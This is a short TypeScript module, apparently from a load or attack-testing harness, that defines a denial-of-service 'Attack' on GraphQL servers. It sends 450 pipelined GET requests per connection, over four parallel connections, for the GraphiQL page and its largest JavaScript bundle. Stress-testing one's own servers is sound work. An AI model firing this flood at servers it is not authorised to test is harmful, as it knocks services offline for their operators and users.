import { httpGet, inParallel, pipeline, type Attack } from '../target.ts';

/** 450 GETs of the page of GraphiQL, or of its largest file, in one packet, from four connections. */
export const graphiql: Attack = async (target) => {
  const page = await (await fetch(target.url, { headers: { accept: 'text/html' } })).text();
  const script = /\/graphiql\/graphiql\.\w+\.js/.exec(page)?.[0] ?? '';
  await inParallel(target, 4, async (index) => {
    if (index % 2 === 0) await pipeline(target, httpGet('/graphql', { Accept: 'text/html' }), 450);
    else await pipeline(target, httpGet(script, { 'Accept-Encoding': 'identity' }), 450);
  });
};
